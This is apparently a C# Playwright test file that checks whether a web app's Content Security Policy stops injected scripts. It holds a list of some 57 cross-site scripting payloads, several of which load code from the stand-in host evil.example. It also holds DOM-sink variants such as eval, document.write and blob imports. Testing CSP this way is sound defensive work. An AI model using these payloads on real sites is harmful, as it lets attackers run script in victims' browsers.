using System.Collections.Concurrent;
using Microsoft.Playwright;
using Xunit.Abstractions;

namespace Waickoff.Browser.Tests.Web;

/// <summary>T99, T101: the policy of the pages is in force. What is planted into a page does not run; what the pages need does.</summary>
public sealed class PolicyTests(Browser browser, ITestOutputHelper output) : IClassFixture<Browser>
{
    private const string Evil = "alert(1)";
    private const string Root = "<div id=\"root\">";

    /// <summary>Into the document, as if a page had been written with something of somebody's in it.</summary>
    private static readonly string[] InDocument =
    [
        $"<script>{Evil}</script>",
        $"<script type=module>{Evil}</script>",
        $"<script nonce=guess>{Evil}</script>",
        $"<script src=\"data:text/javascript,{Evil}\"></script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<script src=\"//evil.example/x.js\"></script>",
        $"<script type=importmap>{{\"imports\":{{\"react\":\"data:text/javascript,{Evil}\"}}}}</script>",
        $"<img src=x onerror=\"{Evil}\">",
        $"<svg onload=\"{Evil}\"></svg>",
        $"<svg><script>{Evil}</script></svg>",
        $"<svg><animate onbegin=\"{Evil}\" attributeName=x dur=1s></svg>",
        $"<body onload=\"{Evil}\">",
        $"<input autofocus onfocus=\"{Evil}\">",
        $"<details open ontoggle=\"{Evil}\"></details>",
        $"<video><source onerror=\"{Evil}\"></video>",
        $"<audio src=x onerror=\"{Evil}\"></audio>",
        $"<iframe srcdoc=\"<script>parent.{Evil}</script>\"></iframe>",
        $"<iframe src=\"javascript:parent.{Evil}\"></iframe>",
        $"<iframe src=\"data:text/html,<script>{Evil}</script>\"></iframe>",
        $"<object data=\"data:text/html,<script>{Evil}</script>\"></object>",
        $"<object data=\"javascript:{Evil}\"></object>",
        $"<embed src=\"data:text/html,<script>{Evil}</script>\">",
        $"<meta http-equiv=refresh content=\"0;url=javascript:{Evil}\">",
        $"<link rel=stylesheet href=x onerror=\"{Evil}\">",
        $"<style onload=\"{Evil}\"></style>",
        $"<marquee onstart=\"{Evil}\">x</marquee>",
        $"<math><mtext><img src=x onerror=\"{Evil}\"></mtext></math>",
        $"<template><script>{Evil}</script></template><script>{Evil}</script>",
        $"<base href=\"https://evil.example/\"><script src=\"x.js\"></script>",
        $"<form action=\"javascript:{Evil}\"><button autofocus>x</button></form><script>document.forms[0].submit()</script>",
    ];

    /// <summary>Into the page by a script of ours that was led astray.</summary>
    private static readonly string[] InPage =
    [
        $"document.body.innerHTML += '<img src=x onerror={Evil}>'",
        $"document.body.insertAdjacentHTML('beforeend', '<svg onload={Evil}>')",
        $"document.body.outerHTML = '<body onload={Evil}>'",
        $"document.write('<script>{Evil}<\\/script>')",
        $"document.writeln('<img src=x onerror={Evil}>')",
        $"{{ const s = document.createElement('script'); s.textContent = '{Evil}'; document.body.append(s) }}",
        $"{{ const s = document.createElement('script'); s.text = '{Evil}'; document.body.append(s) }}",
        $"{{ const s = document.createElement('script'); s.src = 'data:text/javascript,{Evil}'; document.body.append(s) }}",
        "{ const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s) }",
        $"{{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.{Evil}<\\/script>'; document.body.append(f) }}",
        $"{{ const i = document.createElement('img'); i.setAttribute('onerror', '{Evil}'); i.src = 'x'; document.body.append(i) }}",
        $"{{ const a = document.createElement('a'); a.href = 'javascript:{Evil}'; document.body.append(a); a.click() }}",
        $"location.href = 'javascript:{Evil}'",
        $"eval('{Evil}')",
        $"new Function('{Evil}')()",
        $"setTimeout('{Evil}', 0)",
        $"setInterval('{Evil}', 1)",
        $"import('data:text/javascript,{Evil}').catch(() => 0)",
        $"{{ const b = URL.createObjectURL(new Blob(['{Evil}'], {{ type: 'text/javascript' }})); import(b).catch(() => 0) }}",
        $"{{ const b = URL.createObjectURL(new Blob(['{Evil}'], {{ type: 'text/javascript' }})); const s = document.createElement('script'); s.src = b; document.body.append(s) }}",
        $"document.body.append(document.createRange().createContextualFragment('<script>{Evil}<\\/script>'))",
        $"document.body.append(new DOMParser().parseFromString('<img src=x onerror={Evil}>', 'text/html').body.firstChild)",
        "trustedTypes.createPolicy('evil', { createHTML: (t) => t })",
        "trustedTypes.createPolicy('default', { createHTML: (t) => t })",
        "new Worker('data:text/javascript,postMessage(1)').onmessage = () => alert(1)",
        "new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)').port.onmessage = () => alert(1)",
        "fetch('https://evil.example/').then(() => alert(1), () => 0)",
    ];

    /// <summary>One of so many is planted.</summary>
    private static int Every => WebServer.IsWhole ? 1 : 6;

    [Fact]
    public async Task What_is_planted_into_a_page_does_not_run()
    {
        (InDocument.Length + InPage.Length).ShouldBeGreaterThanOrEqualTo(50);
        await using var server = await WebServer.StartAsync();
        var origin = server.Address.GetLeftPart(UriPartial.Authority);

        var (ran, refused) = await PlantAllAsync(origin, isPolicyOn: true, Every);
        var (unguarded, _) = await PlantAllAsync(origin, isPolicyOn: false, Every);

        output.WriteLine(
            $"{InDocument.Length + InPage.Length} planted: {ran.Count} ran, {refused.Distinct().Count()} refused aloud; without the policy {unguarded.Distinct().Count()} ran"
        );
        ran.ShouldBeEmpty();
        // What is planted is alive: the policy is what holds it.
        unguarded.Distinct().Count().ShouldBeGreaterThan(35 / Every);
    }

    /// <summary>Plants each, or one of so many, into a page of its own.</summary>
    /// <returns>What ran or asked somebody else, and what the browser said it refused.</returns>
    private async Task<(ConcurrentBag<string> Ran, ConcurrentBag<string> Refused)> PlantAllAsync(
        string origin,
        bool isPolicyOn,
        int every
    )
    {
        var (ran, refused) = (new ConcurrentBag<string>(), new ConcurrentBag<string>());
        await using var context = await browser.NewContextAsync(
            new BrowserNewContextOptions { ServiceWorkers = ServiceWorkerPolicy.Block }
        );
        var all = InDocument
            .Select(p => (Document: p, Script: ""))
            .Concat(InPage.Select(p => (Document: "<script src=\"/planted.js\" defer></script>", Script: p)));
        await Parallel.ForEachAsync(
            all.Where((_, i) => i % every == 0),
            new ParallelOptions { MaxDegreeOfParallelism = 4 },
            async (planted, _) => await PlantAsync(planted.Document, planted.Script)
        );
        return (ran, refused);

        async Task PlantAsync(string document, string script)
        {
            var planted = script.Length > 0 ? script : document;
            var page = await context.NewPageAsync();
            page.Dialog += async (_, dialog) =>
            {
                ran.Add(planted);
                await dialog.DismissAsync();
            };
            page.Console += (_, message) =>
            {
                if (message.Text.Contains("Content Security Policy", StringComparison.Ordinal))
                    refused.Add(planted);
            };
            await page.RouteAsync(
                "**://evil.example/**",
                route =>
                {
                    ran.Add(planted);
                    return route.FulfillAsync(new() { ContentType = "text/javascript", Body = Evil });
                }
            );
            await page.RouteAsync(
                origin + "/planted.js",
                route => route.FulfillAsync(new() { ContentType = "text/javascript", Body = script })
            );
            // The document as the server sends it, headers and all, with something in it that the server never wrote.
            await page.RouteAsync(
                origin + "/help",
                async route =>
                {
                    var answer = await route.FetchAsync();
                    var headers = answer
                        .Headers.Where(h => isPolicyOn || h.Key != "content-security-policy")
                        .ToDictionary();
                    var text = await answer.TextAsync();
                    text.ShouldContain(Root);
                    await route.FulfillAsync(
                        new()
                        {
                            Response = answer,
                            Headers = headers,
                            Body = isPolicyOn
                                ? text.Replace(Root, document + Root, StringComparison.Ordinal)
                                : "<!doctype html>" + document,
                        }
                    );
                }
            );
            await page.GotoAsync(origin + "/help", new() { WaitUntil = WaitUntilState.DOMContentLoaded });
            if (isPolicyOn && script.Length == 0 && !document.Contains("<base", StringComparison.Ordinal))
                await page.GetByRole(AriaRole.Heading, new() { Level = 1 }).WaitForAsync();
            await page.WaitForTimeoutAsync(250);
            await page.CloseAsync();
        }
    }
}
